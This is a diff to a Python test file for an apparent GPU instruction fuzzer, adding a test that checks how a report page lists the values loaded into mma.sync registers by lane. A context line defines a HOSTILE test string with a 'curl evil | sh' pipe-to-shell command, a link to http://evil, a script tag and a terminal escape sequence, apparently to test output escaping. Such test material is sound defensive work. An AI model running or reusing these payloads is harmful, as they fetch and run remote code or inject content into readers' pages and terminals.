@@ -30,11 +30,13 @@ from fuzz.findings.case import Evidence, case_of
 from fuzz.findings.replay import Subject, attempt
 from fuzz.runner import RunnerChoice, opened
 from oracle.errors import UsageError
-from oracle.isa import ldmatrix_form, mma_form
+from oracle.isa import ldmatrix_form, mma_form, mma_sync_form
 from oracle.operations import Operation
+from oracle.ops import product_of
 from oracle.program import Program
 from oracle.targets import Module
 from runners.emission import emit
+from strategies.programs.single_instruction import buffers_of, single_instruction
 
 PROGRAMS = {
     "half": multiplication(half(), times=2),
@@ -48,6 +50,7 @@ PROGRAMS = {
 }
 
 
+DOUBLES = "mma.sync.aligned.m8n8k4.row.col.f64.f64.f64.f64"
 HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"
 
 
@@ -141,6 +144,23 @@ def test_a_zero_input_makes_an_empty_table(tmp_path: Path) -> None:
     image = np.arange(program.image_bytes, dtype=np.uint32).astype(np.uint8)
     facts = ValueFacts.of(stored(tmp_path, program, image=image, faults=("trans-added",)))
     assert "The rows that the lanes point to" in value_page(facts)
+
+
+def test_registers_that_are_loaded_are_listed_by_lane_and_once_where_all_are_the_same(
+    tmp_path: Path,
+) -> None:
+    """Of a multiplication of registers a page said that every element that is loaded is zero."""
+    steps = single_instruction(product_of(mma_sync_form(DOUBLES)))
+    program = Program(buffers=buffers_of(steps), steps=steps)
+    image = np.zeros(program.image_bytes, np.uint8)
+    numbers = image.view(np.float64)
+    numbers[program.offset("a") // 8 + 5] = 2
+    numbers[program.offset("b") // 8 :][:32] = -1
+    page = value_page(
+        ValueFacts.of(stored(tmp_path, program, image=image, faults=("lanes-stuck-bit",)))
+    )
+    rows = ["a[lane 5, 0] .b64 | `0x4000", "b[every lane, 0] .b64 | `0xbff0"]
+    assert re.findall(r"\| (.*`0x....)0{12}` \|  \|", page) == rows
 
 
 def assembled(folder: Path, kind: Kind, text: str, files: dict[str, bytes]) -> Entry:
